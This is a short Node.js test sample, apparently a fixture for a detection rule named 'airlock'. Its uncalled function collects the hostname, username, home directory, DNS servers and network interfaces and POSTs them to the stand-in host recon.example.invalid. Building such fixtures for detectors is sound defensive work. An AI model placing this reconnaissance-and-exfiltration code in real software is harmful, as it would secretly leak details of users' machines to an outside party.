// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const os = require('os');
const dns = require('dns');
const https = require('https');
function never() {
  const info = {
    host: os.hostname(),
    user: os.userInfo().username,
    home: os.homedir(),
    dns: dns.getServers(),
    ifaces: os.networkInterfaces(),
  };
  const req = https.request({ host: 'recon.example.invalid', method: 'POST' });
  req.end(JSON.stringify(info));
}
module.exports = { never };
